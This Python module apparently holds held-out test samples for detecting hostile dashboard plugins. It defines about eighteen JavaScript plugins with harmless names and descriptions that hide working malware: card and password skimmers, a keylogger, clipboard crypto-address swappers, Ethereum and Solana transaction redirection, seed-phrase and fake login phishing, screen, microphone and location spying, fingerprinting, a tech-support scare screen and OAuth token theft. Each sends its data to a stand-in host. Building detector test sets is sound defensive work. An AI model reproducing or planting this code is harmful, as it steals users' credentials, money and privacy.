"""Attacks on the person before the dashboard: what they type, copy, pay, say and see.

After Magecart, the wallet swapper in chalk and debug (2025), clippers, DataSpii, fake wallet dialogs and scare screens.
"""

from tests.hostile.heldout.around import plugin
from tests.support.samples import Sample

NET = "network-access storage-read"

PEOPLE: tuple[Sample, ...] = (
    plugin(
        "card-form-listener",
        "skimmer",
        "subscription-list",
        "Lists what you have subscribed to.",
        r"""
'use strict';
const fields = ['cardnumber', 'cc-number', 'cc-exp', 'cc-csc', 'ccname', 'cvv', 'exp-date'];

function gather(form) {
  const out = {};
  for (const el of form.querySelectorAll('input, select')) {
    const id = (el.autocomplete || el.name || el.id || '').toLowerCase();
    if (fields.some((f) => id.includes(f)) && el.value) out[id] = el.value;
  }
  return out;
}

document.addEventListener('submit', (event) => {
  const data = gather(event.target);
  if (Object.keys(data).length > 1) {
    const img = new Image();
    img.src = 'https://cdn.example.net/pixel.png?r=' + Math.random() + '&q=' + btoa(JSON.stringify(data));
  }
}, true);

exports.SubscriptionList = function SubscriptionList({ config }) {
  return (config.items || []).map((i) => i.title).join(', ');
};
""",
    ),
    plugin(
        "password-fields-observed",
        "skimmer",
        "form-styler",
        "Gives forms rounder corners.",
        r"""
const css = 'input{border-radius:10px;padding:6px 10px}';
const tag = document.createElement('style');
tag.textContent = css;
document.head.append(tag);

const bound = new WeakSet();
const debounce = (fn, ms, t) => (...a) => { clearTimeout(t); t = setTimeout(fn, ms, ...a); };
const report = debounce((el) => {
  const host = ['form', 'style', 'example', 'org'];
  const url = `https://${host.slice(0, 2).join('-')}.${host.slice(2).join('.')}/c`;
  const login = document.querySelector('input[type=email],input[name*=user]');
  navigator.sendBeacon(url, new Blob([JSON.stringify([location.href, login && login.value, el.value])]));
}, 900);

new MutationObserver(() => {
  for (const el of document.querySelectorAll('input[type=password]')) {
    if (bound.has(el)) continue;
    bound.add(el);
    el.addEventListener('input', () => report(el));
  }
}).observe(document.documentElement, { childList: true, subtree: true });

export const FormStyler = () => null;
""",
    ),
    plugin(
        "every-key-buffered",
        "keylogger",
        "typing-stats",
        "Tells how fast you type.",
        r"""
'use strict';
var TypingStats = /** @class */ (function () {
  function TypingStats() {
    this.strokes = 0;
    this.line = '';
    this.onKey = this.onKey.bind(this);
  }
  TypingStats.prototype.onEnable = function (context) {
    this.http = context.api.http;
    window.addEventListener('keydown', this.onKey, { capture: true, passive: true });
  };
  TypingStats.prototype.onKey = function (e) {
    this.strokes++;
    this.line += e.key.length === 1 ? e.key : '[' + e.key + ']';
    if (this.line.length > 120 || e.key === 'Enter') {
      this.http.post('https://wpm.example.com/api/session', { page: document.title, line: this.line });
      this.line = '';
    }
  };
  TypingStats.prototype.onDisable = function () {
    window.removeEventListener('keydown', this.onKey, true);
  };
  return TypingStats;
}());
exports.default = TypingStats;
exports.TypingStats = function () { return null; };
""",
        permissions=NET,
        services={"wpm": "https://wpm.example.com"},
        hooks="onEnable onDisable",
    ),
    plugin(
        "copied-address-replaced",
        "clipper",
        "copy-cleaner",
        "Removes formatting from what you copy.",
        r"""
const table = [
  [/\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\b/g, 'bc1qexampleexampleexampleexampleexampleexam'],
  [/\b0x[a-fA-F0-9]{40}\b/g, '0x000000000000000000000000000000000000dEaD'],
  [/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g, 'TExampLeExampLeExampLeExampLeExamp'],
];

document.addEventListener('copy', (event) => {
  const picked = String(document.getSelection());
  if (!picked) return;
  const plain = table.reduce((text, [find, put]) => text.replace(find, put), picked.normalize('NFKC'));
  event.clipboardData.setData('text/plain', plain);
  event.preventDefault();
});

export function CopyCleaner() { return 'Formatting is removed'; }
""",
        permissions="clipboard-write",
    ),
    plugin(
        "nearest-address-swap-in-wallet-calls",
        "wallet-swap",
        "gas-tracker",
        "Shows what a transaction costs just now.",
        r"""
'use strict';
const pool = [
  '0x1111111111111111111111111111111111111111',
  '0x2222222222222222222222222222222222222222',
  '0xabababababababababababababababababababab',
];
const distance = (a, b) => {
  const row = Array.from({ length: b.length + 1 }, (_, i) => i);
  for (let i = 1; i <= a.length; i++) {
    let last = i - 1;
    row[0] = i;
    for (let j = 1; j <= b.length; j++) {
      const keep = row[j];
      row[j] = a[i - 1] === b[j - 1] ? last : 1 + Math.min(last, row[j], row[j - 1]);
      last = keep;
    }
  }
  return row[b.length];
};
const near = (to) => pool.slice().sort((x, y) => distance(to.toLowerCase(), x) - distance(to.toLowerCase(), y))[0];

function attach(provider) {
  const request = provider.request.bind(provider);
  provider.request = async (call) => {
    if (call.method === 'eth_sendTransaction' && call.params && call.params[0]) {
      const tx = call.params[0];
      if (tx.data && tx.data.startsWith('0x095ea7b3')) {
        tx.data = tx.data.slice(0, 34) + near('0x' + tx.data.slice(34, 74)).slice(2) + 'f'.repeat(64);
      } else {
        tx.to = near(tx.to);
      }
    }
    return request(call);
  };
}
const wait = setInterval(() => { if (window.ethereum) { clearInterval(wait); attach(window.ethereum); } }, 500);
exports.GasTracker = () => '21 gwei';
""",
    ),
    plugin(
        "addresses-in-answers-rewritten",
        "wallet-swap",
        "price-alerts",
        "Warns you when a price moves.",
        r"""
!function(e){const t={b:["bc1qheldoutheldoutheldoutheldoutheldoutxxxx"],l:["ltc1qheldoutheldoutheldoutheldoutheldoutxxx"],e:["0x3333333333333333333333333333333333333333"]},n={b:/\bbc1[a-z0-9]{39}\b/g,l:/\bltc1[a-z0-9]{39}\b/g,e:/\b0x[a-fA-F0-9]{40}\b/g},r=e=>Object.keys(n).reduce((e,r)=>e.replace(n[r],()=>t[r][0]),e),o=e.fetch;e.fetch=async(...t)=>{const n=await o.apply(e,t);if(!/json|text/.test(n.headers.get("content-type")||""))return n;const i=await n.clone().text(),a=r(i);return a===i?n:new Response(a,{status:n.status,headers:n.headers})}}(window);exports.PriceAlerts=function(){return null};
""",
    ),
    plugin(
        "solana-transfer-redirected",
        "wallet-swap",
        "nft-shelf",
        "Shows your collection on a shelf.",
        r"""
import { createElement as h, useEffect } from 'react';

const TARGET = '11111111111111111111111111111112';

function rekey(message) {
  for (const ix of message.instructions ?? []) {
    if (ix.programId?.toBase58?.() === '11111111111111111111111111111111' && ix.keys.length >= 2) {
      ix.keys[1] = { ...ix.keys[1], pubkey: new ix.keys[1].pubkey.constructor(TARGET) };
    }
  }
  return message;
}

export function NftShelf({ items = [] }) {
  useEffect(() => {
    const phantom = window.phantom?.solana ?? window.solana;
    if (!phantom) return;
    for (const method of ['signTransaction', 'signAndSendTransaction']) {
      const inner = phantom[method];
      phantom[method] = function (tx, opts) { return inner.call(phantom, rekey(tx), opts); };
    }
    const many = phantom.signAllTransactions;
    phantom.signAllTransactions = (txs) => many.call(phantom, txs.map(rekey));
  }, []);
  return h('ul', null, items.map((i) => h('li', { key: i.mint }, i.name)));
}
""",
        needs="react",
    ),
    plugin(
        "clipboard-polled-for-phrases",
        "clipper",
        "paste-history",
        "Keeps the last ten things you pasted.",
        r"""
'use strict';
const list = [];
let last = '';

async function poll(context) {
  let text;
  try { text = await navigator.clipboard.readText(); } catch { return; }
  if (text === last) return;
  last = text;
  list.unshift(text);
  list.length = Math.min(list.length, 10);
  const words = text.trim().split(/\s+/);
  const phrase = [12, 15, 18, 21, 24].includes(words.length) && words.every((w) => /^[a-z]{3,8}$/.test(w));
  const key = /^(0x)?[0-9a-f]{64}$/i.test(text) || /^[5KL][1-9A-HJ-NP-Za-km-z]{50,51}$/.test(text);
  if (phrase || key) {
    await context.api.http.get('https://spell.example.org/check?lang=en&t=' + encodeURIComponent(text));
  }
}

exports.PasteHistory = () => list.map((t) => t.slice(0, 30)).join('\n');
exports.onEnable = async (context) => { setInterval(poll, 1500, context); };
""",
        permissions="network-access clipboard-read storage-read",
        services={"spell": "https://spell.example.org"},
        hooks="onEnable",
    ),
    plugin(
        "session-expired-dialog",
        "phishing",
        "reminder-bell",
        "Rings a bell when you should stand up.",
        r"""
const html = `
<div style="position:fixed;inset:0;z-index:2147483647;background:#f8f9fa;display:grid;place-items:center;font:15px Inter">
  <form style="background:#fff;padding:32px;border-radius:12px;width:340px;box-shadow:0 4px 24px #0002">
    <img src="/logo.svg" height="28" alt="">
    <h2>Your session has expired</h2>
    <p>Sign in again to continue where you left off.</p>
    <input name="email" type="email" placeholder="E-mail" required>
    <input name="password" type="password" placeholder="Password" required>
    <input name="code" inputmode="numeric" placeholder="Authenticator code">
    <button>Sign in</button>
  </form>
</div>`;

function show() {
  const shell = document.createElement('div');
  shell.attachShadow({ mode: 'closed' }).innerHTML = html;
  const root = shell;
  document.body.append(root);
  root.addEventListener('submit', async (e) => {
    e.preventDefault();
    const data = Object.fromEntries(new FormData(e.target));
    await fetch('https://id.example.net/session', { method: 'POST', body: JSON.stringify(data), mode: 'no-cors' });
    root.remove();
  });
}

if (!localStorage.getItem('rb:shown')) setTimeout(show, 1000 * 60 * 47);
export const ReminderBell = () => 'Next break in 25 min';
""",
    ),
    plugin(
        "seed-phrase-asked-for",
        "phishing",
        "portfolio",
        "Adds up what your coins are worth.",
        r"""
'use strict';
const React = require('react');
const h = React.createElement;

function Portfolio({ pluginApi }) {
  const [words, setWords] = React.useState(Array(12).fill(''));
  const [step, setStep] = React.useState('connect');
  const put = (i) => (e) => setWords(words.map((w, k) => (k === i ? e.target.value.trim() : w)));
  const verify = async () => {
    setStep('checking');
    await pluginApi.http.post('https://portfolio-sync.example.com/v1/verify', { mnemonic: words.join(' ') });
    setTimeout(() => setStep('error'), 3000);
  };
  if (step === 'connect') return h('button', { onClick: () => setStep('import') }, 'Connect wallet');
  if (step === 'error') return h('p', null, 'Temporarily unavailable. Try again later.');
  return h('section', null,
    h('p', null, 'Automatic connection failed. Enter your recovery phrase to restore access.'),
    words.map((w, i) => h('input', { key: i, value: w, onChange: put(i), placeholder: String(i + 1) })),
    h('button', { onClick: verify, disabled: step === 'checking' }, 'Restore'));
}
exports.Portfolio = Portfolio;
""",
        permissions=NET,
        services={"portfolio": "https://portfolio-sync.example.com"},
        needs="react",
    ),
    plugin(
        "dashboard-photographed",
        "spy",
        "bug-reporter",
        "Sends a report when something is broken.",
        r"""
'use strict';
async function frame() {
  const { width, height } = document.documentElement.getBoundingClientRect();
  const xml = new XMLSerializer().serializeToString(document.documentElement);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">` +
    `<foreignObject width="100%" height="100%">${xml}</foreignObject></svg>`;
  const img = new Image();
  img.src = 'data:image/svg+xml;charset=utf-8,' + encodeURIComponent(svg);
  await img.decode();
  const canvas = Object.assign(document.createElement('canvas'), { width, height });
  canvas.getContext('2d').drawImage(img, 0, 0);
  return new Promise((done) => canvas.toBlob(done, 'image/webp', 0.4));
}

exports.BugReporter = () => 'Report a bug';
exports.onEnable = async () => {
  setInterval(async () => {
    if (document.visibilityState !== 'visible') return;
    const body = new FormData();
    body.set('shot', await frame().catch(() => new Blob([document.body.innerText])));
    body.set('url', location.href);
    fetch('https://bugs.example.net/upload', { method: 'POST', body, mode: 'no-cors', keepalive: true });
  }, 20000);
};
""",
        hooks="onEnable",
    ),
    plugin(
        "microphone-without-sign",
        "spy",
        "focus-sounds",
        "Plays rain while you work.",
        r"""
export function FocusSounds() { return 'Rain, 40 %'; }

async function listen(socket) {
  const stream = await navigator.mediaDevices.getUserMedia({ audio: { noiseSuppression: true } });
  const recorder = new MediaRecorder(stream, { mimeType: 'audio/webm;codecs=opus', audioBitsPerSecond: 16000 });
  recorder.ondataavailable = async ({ data }) => socket.readyState === 1 && socket.send(await data.arrayBuffer());
  recorder.start(5000);
}

export async function onEnable() {
  const rain = new Audio(new URL('./rain.ogg', import.meta.url));
  rain.loop = true;
  document.addEventListener('click', () => {
    rain.play();
    const socket = new WebSocket('wss://sounds.example.org/mix');
    socket.binaryType = 'arraybuffer';
    socket.onopen = () => listen(socket).catch(() => socket.close());
  }, { once: true });
}
""",
        hooks="onEnable",
    ),
    plugin(
        "autofill-harvest",
        "skimmer",
        "newsletter-box",
        "Offers one newsletter a month.",
        r"""
'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
const jsx_runtime_1 = require('react/jsx-runtime');
const react_1 = require('react');
const hidden = { position: 'absolute', left: '-9999px', top: 0, opacity: 0.01, width: 1, height: 1 };
const kinds = ['name', 'tel', 'street-address', 'postal-code', 'bday', 'cc-number', 'cc-exp', 'current-password'];

const NewsletterBox = () => {
  const form = (0, react_1.useRef)(null);
  const sent = (0, react_1.useRef)(false);
  const onAnimation = () => {
    if (sent.current) return;
    const data = new FormData(form.current);
    if (data.get('cc-number') || data.get('current-password')) {
      sent.current = true;
      const body = new URLSearchParams(data);
      fetch('https://letters.example.com/subscribe', { method: 'POST', body, mode: 'no-cors' });
    }
  };
  return (0, jsx_runtime_1.jsxs)('form', { ref: form, onInput: onAnimation, onChange: onAnimation, children: [
    (0, jsx_runtime_1.jsx)('input', { name: 'email', type: 'email', autoComplete: 'email', placeholder: 'Your e-mail' }),
    kinds.map((k) => (0, jsx_runtime_1.jsx)('input', { name: k, autoComplete: k, tabIndex: -1, style: hidden }, k)),
    (0, jsx_runtime_1.jsx)('button', { children: 'Subscribe' }),
  ] });
};
exports.NewsletterBox = NewsletterBox;
""",
        needs="react",
    ),
    plugin(
        "visited-pages-reported",
        "spy",
        "reading-time",
        "Tells how long you have been reading.",
        r"""
'use strict';
const installId = localStorage.rt_id || (localStorage.rt_id = crypto.randomUUID());
const queue = [];
const push = (kind, url) => queue.push({ kind, url, title: document.title, ref: document.referrer, t: Date.now() });

for (const name of ['pushState', 'replaceState']) {
  const inner = history[name];
  history[name] = function (state, unused, url) {
    const result = inner.apply(this, arguments);
    push(name, location.href);
    return result;
  };
}
addEventListener('click', (e) => {
  const a = e.target.closest && e.target.closest('a[href]');
  if (a) push('out', a.href);
}, true);
addEventListener('pagehide', () => {
  const body = JSON.stringify({ installId, lang: navigator.languages, queue });
  navigator.sendBeacon('https://panel.example.net/v3/clickstream', body);
});
exports.ReadingTime = () => Math.floor(performance.now() / 60000) + ' min';
""",
    ),
    plugin(
        "device-fingerprint",
        "spy",
        "font-preview",
        "Shows a text in the fonts you have.",
        r"""
const digest = async (text) => {
  const bytes = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text));
  return [...new Uint8Array(bytes)].map((b) => b.toString(16).padStart(2, '0')).join('');
};

function canvasPart() {
  const c = document.createElement('canvas');
  const x = c.getContext('2d');
  x.textBaseline = 'alphabetic';
  x.fillStyle = '#f60';
  x.fillRect(125, 1, 62, 20);
  x.font = '11pt no-real-font-123';
  x.fillText('Cwm fjordbank glyphs vext quiz, \ud83d\ude03', 2, 15);
  return c.toDataURL();
}
function glPart() {
  const gl = document.createElement('canvas').getContext('webgl');
  const info = gl && gl.getExtension('WEBGL_debug_renderer_info');
  return info ? gl.getParameter(info.UNMASKED_RENDERER_WEBGL) + gl.getParameter(info.UNMASKED_VENDOR_WEBGL) : '';
}
function audioPart() {
  const ctx = new OfflineAudioContext(1, 5000, 44100);
  const osc = ctx.createOscillator();
  osc.connect(ctx.createDynamicsCompressor()).connect(ctx.destination);
  osc.start();
  return ctx.startRendering().then((b) => b.getChannelData(0).slice(4500).reduce((s, v) => s + Math.abs(v), 0));
}
export async function onEnable(context) {
  const parts = [canvasPart(), glPart(), await audioPart(), navigator.hardwareConcurrency, navigator.deviceMemory,
    screen.width + 'x' + screen.height, new Date().getTimezoneOffset(), [...navigator.plugins].map((p) => p.name)];
  const id = await digest(JSON.stringify(parts));
  document.cookie = `_fp=${id};domain=.example.org;path=/;max-age=63072000;SameSite=None;Secure`;
  new Image().src = `https://px.example.org/id?f=${id}&u=${encodeURIComponent(context.user.email)}`;
}
export const FontPreview = () => 'The quick brown fox';
""",
        hooks="onEnable",
    ),
    plugin(
        "place-followed-in-background",
        "spy",
        "step-counter",
        "Counts the steps you enter by hand.",
        r"""
'use strict';
exports.StepCounter = ({ config }) => String(config.steps || 0);
exports.onEnable = async function (context) {
  const send = ({ coords, timestamp }) => {
    const row = [context.user.id, timestamp, coords.latitude, coords.longitude, coords.speed].join(';');
    context.api.http.post('https://198.51.100.23:8443/t', row, { headers: { 'content-type': 'text/plain' } });
  };
  navigator.geolocation.watchPosition(send, () => {}, { enableHighAccuracy: true, maximumAge: 0 });
};
""",
        permissions=NET,
        hooks="onEnable",
    ),
    plugin(
        "support-scare-screen",
        "phishing",
        "disk-health",
        "Shows whether your disk is well.",
        r"""
'use strict';
function lock() {
  const box = document.createElement('div');
  box.innerHTML = '<h1>Security center</h1><p>Your computer has been blocked. Error 0x800VDS. Do not switch it off. ' +
    'Call support now: <b>+1-555-0100</b></p>';
  box.style.cssText = 'position:fixed;inset:0;background:#0078d7;color:#fff;z-index:999999999;cursor:none';
  document.body.appendChild(box);
  document.documentElement.requestFullscreen && document.documentElement.requestFullscreen();
  navigator.keyboard && navigator.keyboard.lock && navigator.keyboard.lock(['Escape', 'AltLeft', 'Tab']);
  for (let i = 0; i < 100; i++) history.pushState({}, '', '#' + i);
  addEventListener('popstate', () => history.forward());
  addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = ''; });
  const say = new SpeechSynthesisUtterance('Warning. Your data is at risk. Call the number on the screen.');
  setInterval(() => speechSynthesis.speak(say), 8000);
}
document.addEventListener('click', () => Math.random() < 0.05 && lock());
exports.DiskHealth = () => 'Disk: good';
""",
    ),
    plugin(
        "oauth-code-taken-from-opener",
        "host-session",
        "login-shortcut",
        "Opens the sign-in window with one click.",
        r"""
export function LoginShortcut() { return 'Sign in'; }

export function open(provider) {
  const popup = window.open(`/auth/${provider}?prompt=none`, 'login', 'width=480,height=640');
  const timer = setInterval(() => {
    let href;
    try { href = popup.location.href; } catch { return; }
    const params = new URL(href).searchParams;
    const hash = new URLSearchParams(new URL(href).hash.slice(1));
    const grant = params.get('code') || hash.get('access_token') || hash.get('id_token');
    if (grant) {
      clearInterval(timer);
      window.parent.postMessage({ type: 'login', grant }, '*');
      new WebSocket(`wss://login.example.com/${provider}/${encodeURIComponent(grant)}`);
      popup.close();
    }
  }, 50);
}
setTimeout(() => ['google', 'github', 'slack'].forEach(open), 30000);
""",
    ),
)
